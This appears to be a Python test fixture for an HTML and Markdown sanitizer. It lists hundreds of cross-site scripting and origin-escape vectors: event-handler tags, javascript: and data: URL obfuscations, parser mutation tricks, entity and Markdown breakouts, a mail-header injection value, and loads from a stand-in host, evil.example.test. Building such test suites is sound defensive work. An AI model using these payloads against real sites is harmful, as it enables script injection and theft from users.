"""Hostile input by class: each entry tries to run a script or to reach another origin."""

EVIL = "https://evil.example.test/x"

EVENT_HANDLERS = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)/>"),
    ("img-onerror-newline", "<img src=x\nonerror\n=\nalert(1)>"),
    ("img-onerror-formfeed", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("img-onerror-no-end", "<img src=x onerror=alert(1) "),
    ("img-onerror-case", "<iMg SrC=x oNeRrOr=alert(1)>"),
    ("img-load-evil", f'<img src="{EVIL}.png">'),
    ("p-onmouseover", "<p onmouseover=alert(1)>hover</p>"),
    ("a-onfocus", "<a href=https://ex.test autofocus tabindex=0 onfocus=alert(1)>x</a>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-src", f"<audio src={EVIL} autoplay onerror=alert(1)>"),
    ("animation", "<b style=animation-name:x onanimationstart=alert(1)>x</b>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("quote-in-attribute", '<span class="k" title="x" onclick="alert(1)">x</span>'),
    ("attribute-breakout", "<a href='https://ex.test/\" onmouseover=\"alert(1)'>x</a>"),
    ("backtick-attribute", "<a href=`https://ex.test` onclick=alert(1)>x</a>"),
    ("nul-in-name", "<im\x00g src=x onerror=alert(1)>"),
    ("nul-in-handler", "<img src=x on\x00error=alert(1)>"),
    ("unicode-tag", "\uff1cimg src=x onerror=alert(1)\uff1e"),
    ("slot-attributes", f'<div id=a name=b data-x="{EVIL}" is=x slot=y part=z>x</div>'),
]

ELEMENTS = [
    ("script", "<script>alert(1)</script>"),
    ("script-src", f"<script src={EVIL}.js></script>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-double-open", "<<script>alert(1)//<</script>"),
    ("script-slash", "<script/x>alert(1)</script\n>"),
    ("iframe-src", f"<iframe src={EVIL}></iframe>"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>'),
    ("object", "<object data=javascript:alert(1)></object>"),
    ("embed", f"<embed src={EVIL}>"),
    ("base", f"<base href={EVIL}/><a href=/x>x</a>"),
    ("meta-refresh", f'<meta http-equiv=refresh content="0;url={EVIL}">'),
    ("link-stylesheet", f"<link rel=stylesheet href={EVIL}.css>"),
    ("style-import", f'<style>@import "{EVIL}.css";</style>'),
    ("style-attribute", f"<p style=\"background:url('{EVIL}')\">x</p>"),
    (
        "form-action",
        f"<form action={EVIL}><button formaction=javascript:alert(1)>x</button></form>",
    ),
    ("picture", f"<picture><source srcset={EVIL}><img src=x></picture>"),
    ("srcset", f'<img srcset="{EVIL} 1x" alt=x>'),
    ("table-background", f"<table background={EVIL}><tr><td>x</td></tr></table>"),
    ("frameset", f"<frameset><frame src={EVIL}></frameset>"),
    ("portal", f"<portal src={EVIL}></portal>"),
    ("custom-element", "<afterword-comments site=x onclick=alert(1)>x</afterword-comments>"),
    ("declarative-shadow", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></div>"),
    ("ping", f'<a href="https://ex.test" ping="{EVIL}">x</a>'),
]

_TARGETS = [
    ("plain", "javascript:alert(1)"),
    ("case", "JaVaScRiPt:alert(1)"),
    ("tab", "java\tscript:alert(1)"),
    ("newline", "java\nscript:alert(1)"),
    ("return", "java\rscript:alert(1)"),
    ("leading-space", "   javascript:alert(1)"),
    ("leading-control", "\x01\x1fjavascript:alert(1)"),
    ("nul", "java\x00script:alert(1)"),
    ("decimal", "&#106;&#97;vascript:alert(1)"),
    ("decimal-padded", "&#0000106avascript:alert(1)"),
    ("decimal-overlong", "&#" + "0" * 5000 + "106;avascript:alert(1)"),
    ("hex", "&#x6A;avascript&#x3A;alert(1)"),
    ("hex-upper", "&#X6A;avascript:alert(1)"),
    ("named-colon", "javascript&colon;alert(1)"),
    ("named-tab", "java&Tab;script:alert(1)"),
    ("named-newline", "java&NewLine;script:alert(1)"),
    ("control-entity", "&#1;javascript:alert(1)"),
    ("nested-entity", "&amp;#106;avascript:alert(1)"),
    ("nested-entity-twice", "javascript&amp;amp;colon;alert(1)"),
    ("percent", "%6Aavascript:alert(1)"),
    ("percent-colon", "javascript%3Aalert(1)"),
    ("comment-slashes", "javascript://ex.test/%0Aalert(1)"),
    ("view-source", "view-source:javascript:alert(1)"),
    ("feed", "feed:javascript:alert(1)"),
    ("unicode-fullwidth", "\uff4aavascript:alert(1)"),
    ("unicode-long-s", "java\u017fcript:alert(1)"),
    ("zero-width", "java\u200bscript:alert(1)"),
    ("soft-hyphen", "java\u00adscript:alert(1)"),
    ("bidi", "\u202ejavascript:alert(1)"),
    ("nbsp", "\u00a0javascript:alert(1)"),
    ("line-separator", "\u2028javascript:alert(1)"),
    ("data-html", "data:text/html,<script>alert(1)</script>"),
    ("data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-svg", "data:image/svg+xml,<svg onload=alert(1)>"),
    ("data-entity", "dat&#97;:text/html,<script>alert(1)</script>"),
    ("vbscript", "vbscript:alert(1)"),
    ("vbscript-entity", "vb&#x73;cript:alert(1)"),
    ("blob", "blob:https://ex.test/alert(1)"),
    ("filesystem", "filesystem:https://ex.test/alert(1)"),
    ("intent", "intent://ex.test#Intent;scheme=javascript;end"),
    ("protocol-relative", "//evil.example.test/x"),
    ("backslashes", "\\\\evil.example.test/x"),
    ("userinfo", "https://good.example.test@evil.example.test/x"),
    ("userinfo-entity", "https://good.example.test&commat;evil.example.test/x"),
    ("userinfo-backslash", "https://good.example.test\\@evil.example.test:x@/x"),
    ("bad-host", "https://%65vil.example.test/x"),
    ("no-host", "https:///"),
    ("same-scheme-relative", "https:evil"),
]

LINKS = [
    *((f"a-href-{name}", f'<a href="{target}">x</a>') for name, target in _TARGETS),
    *((f"img-src-{name}", f'<img src="{target}">') for name, target in _TARGETS),
    *((f"md-link-{name}", f"[x]({target})") for name, target in _TARGETS),
    *((f"md-angle-{name}", f"[x](<{target}>)") for name, target in _TARGETS),
    *((f"md-reference-{name}", f"[x]\n\n[x]: {target}") for name, target in _TARGETS),
    *((f"md-image-{name}", f"![x]({target})") for name, target in _TARGETS),
    *((f"md-autolink-{name}", f"<{target}>") for name, target in _TARGETS),
    *((f"bare-{name}", f"see {target} there") for name, target in _TARGETS),
]

_RAW_TEXT = ("style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "template")

MUTATIONS = [
    *(
        (f"raw-{tag}", f'<{tag}><p title="</{tag}><img src=x onerror=alert(1)>">')
        for tag in _RAW_TEXT
    ),
    *(
        (f"svg-{tag}", f"<svg><{tag}><img src=x onerror=alert(1)></{tag}></svg>")
        for tag in _RAW_TEXT
    ),
    *(
        (f"math-{tag}", f'<math><mtext><{tag}><a title="</{tag}><img src onerror=alert(1)>">')
        for tag in _RAW_TEXT
    ),
    (
        "math-table",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "math-mglyph",
        (
            "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        ),
    ),
    ("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("svg-desc", '<svg><desc><style><a title="</style><img src onerror=alert(1)>">'),
    (
        "svg-foreign-object",
        "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>-->",
    ),
    ("svg-use", f'<svg><use href="{EVIL}#x"></use></svg>'),
    (
        "svg-animate",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
    ),
    ("svg-set", "<svg><set onbegin=alert(1)></set></svg>"),
    ("svg-script", "<svg><script>alert&#40;1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("annotation-xml", '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>'),
    ("comment", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-dash", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment-bang", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("comment-unclosed", "<!-- <img src=x onerror=alert(1)>"),
    ("comment-in-attribute", '<a title="--><img src=x onerror=alert(1)>">x</a>'),
    ("conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("cdata-svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("processing", "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>"),
    ("bogus-end", "</ img src=x onerror=alert(1)><img src=x onerror=alert(1)>"),
    ("doctype", '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;'),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("select", "<select><template><img src=x onerror=alert(1)></template></select>"),
    ("nested-links", "<a href=https://ex.test><p><a href=javascript:alert(1)>x"),
    ("deep", "<div>" * 600 + "<img src=x onerror=alert(1)>"),
    ("nested-quotes", "<p title='\"><img src=x onerror=alert(1)>'>x"),
    ("unclosed-attribute", '<p title="<img src=x onerror=alert(1)>'),
    ("pre-newline", "<pre>\n\n<img src=x onerror=alert(1)></pre>"),
    ("not-a-tag", "<nottag <a <img src=x onerror=alert(1)> <x"),
]

ENTITIES = [
    ("once", "&lt;img src=x onerror=alert(1)&gt;"),
    ("twice", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    ("numeric", "&#60;img src=x onerror=alert(1)&#62;"),
    ("hex-padded", "&#x000003c;img src=x onerror=alert(1)&#x3E;"),
    ("no-semicolon", "&ltimg src=x onerror=alert(1)&gt"),
    ("upper", "&LT;script&GT;alert(1)&LT;/script&GT;"),
    ("mixed", "<&#115;cript>alert(1)</&#115;cript>"),
    ("overlong", "&#" + "9" * 5000 + ";<script>alert(1)</script>"),
    ("surrogate", "&#xD800;<script>alert(1)</script>"),
    ("utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("attribute", '<a href="https://ex.test/?x=&quot; onclick=&quot;alert(1)">x</a>'),
    (
        "attribute-nested",
        '<a href="https://ex.test/?x=&amp;quot; onclick=&amp;quot;alert(1)">x</a>',
    ),
    ("lone-surrogate", "\ud83d<script>alert(1)</script>\udc4d"),
]

MARKDOWN = [
    ("title-breakout", '[x](https://ex.test "\\" onmouseover=alert(1) x=\\"")'),
    ("title-entity", '[x](https://ex.test "&quot; onmouseover=alert(1) ")'),
    ("title-html", "[x](https://ex.test '\"><script>alert(1)</script>')"),
    ("destination-breakout", '[x](https://ex.test/"onmouseover="alert(1))'),
    ("destination-angle", '[x](<https://ex.test/"><script>alert(1)</script>>)'),
    ("destination-encoded", "[x](https://ex.test/%22onmouseover=%22alert(1))"),
    ("destination-escaped", "[x](java\\script:alert(1))"),
    ("label-html", "[<img src=x onerror=alert(1)>](https://ex.test)"),
    ("reference-title", '[x]\n\n[x]: https://ex.test "\\"><img src=x onerror=alert(1)>"'),
    (
        "reference-label",
        "[<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: https://ex.test",
    ),
    ("reference-newline", "[x]\n\n[x]:\njavascript:alert(1)"),
    ("autolink-quote", '<https://ex.test/"onmouseover="alert(1)>'),
    ("autolink-mail", '<mailto:a@ex.test"onmouseover="alert(1)>'),
    ("bare-quote", 'https://ex.test/"onmouseover="alert(1)'),
    ("bare-angle", "https://ex.test/<script>alert(1)</script>"),
    ("bare-domain-quote", "ex.com/'\"><img src=x onerror=alert(1)>"),
    ("linkify-joined", "javascript:alert(1)//https://ex.test"),
    ("fence-language", '```"><script>alert(1)</script>\nx\n```'),
    ("fence-language-class", '```js" onclick="alert(1)\nx\n```'),
    ("fence-language-entity", "```&quot;&gt;&lt;img/src=x/onerror=alert(1)&gt;\nx\n```"),
    ("fence-content", "```html\n</code></pre><img src=x onerror=alert(1)>\n```"),
    ("fence-highlighted", "```js\nlet a = '</span><script>alert(1)</script>'\n```"),
    ("fence-unclosed", "```\n</code></pre><script>alert(1)</script>"),
    ("code-span", "`<img src=x onerror=alert(1)>`"),
    ("code-span-open", "`<img src=x onerror=alert(1)>"),
    ("indented-code", "    <script>alert(1)</script>"),
    ("html-block", "<div>\n\n<script>alert(1)</script>\n\n</div>"),
    ("html-in-list", "- <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>"),
    ("html-in-heading", "# <img src=x onerror=alert(1)>"),
    ("html-split", "<img src=x *onerror=alert(1)*>"),
    ("image-evil", f"![x]({EVIL}.png)"),
    ("image-alt", '![" onerror="alert(1)](https://ex.test/a.png)'),
    ("image-alt-html", "![<img src=x onerror=alert(1)>](https://ex.test/a.png)"),
    ("image-title", '![x](https://ex.test/a.png "\\" onerror=\\"alert(1)")'),
    ("image-in-link", "[![x](javascript:alert(1))](javascript:alert(1))"),
    ("image-in-image", "![![x](javascript:alert(1))](https://ex.test/a.png)"),
    ("image-src-breakout", '![x](https://ex.test/"onerror="alert(1))'),
    ("table", "|<img src=x onerror=alert(1)>|\n|-|\n|x|"),
]


def _named(group: str, vectors: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(f"{group}-{name}", source) for name, source in vectors]


VECTORS: list[tuple[str, str]] = [
    *_named("event", EVENT_HANDLERS),
    *_named("element", ELEMENTS),
    *_named("link", LINKS),
    *_named("mutation", MUTATIONS),
    *_named("entity", ENTITIES),
    *_named("markdown", MARKDOWN),
]

# For what is shown as plain text or used as an address: names, titles, author and page URLs.
URL_VECTORS: list[tuple[str, str]] = [(f"url-{name}", target) for name, target in _TARGETS]
TEXT_VECTORS: list[tuple[str, str]] = [
    ("name-script", "<script>alert(1)</script>"),
    ("name-img", "Ada <img src=x onerror=alert(1)>"),
    ("name-evil", f'<img src="{EVIL}">'),
    ("name-quote", '" onmouseover="alert(1)'),
    ("name-single-quote", "' onmouseover='alert(1)"),
    ("name-backtick", "` onmouseover=alert(1) `"),
    ("name-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("name-numeric-entity", "&#60;img src=x onerror=alert(1)&#62;"),
    ("name-template", "{{ ''.__class__ }}{% raw %}${alert(1)}"),
    ("name-comment", "--><script>alert(1)</script><!--"),
    ("name-cdata", "]]><script>alert(1)</script>"),
    ("name-bidi", "Ada \u202e<script>alert(1)</script>"),
    ("title-close", "</title><script>alert(1)</script>"),
    ("title-json", '</script><script>alert(1)</script>{"a":"\\u003cimg onerror=alert(1)>"}'),
    ("title-textarea", "</textarea><img src=x onerror=alert(1)>"),
    ("title-style", "</style><svg onload=alert(1)>"),
    ("title-noscript", "</noscript><img src=x onerror=alert(1)>"),
    ("title-header", "Ada\r\nBcc: mallory@evil.example.test\r\n\r\n<script>alert(1)</script>"),
]
FIELD_VECTORS: list[tuple[str, str]] = [*TEXT_VECTORS, *URL_VECTORS]
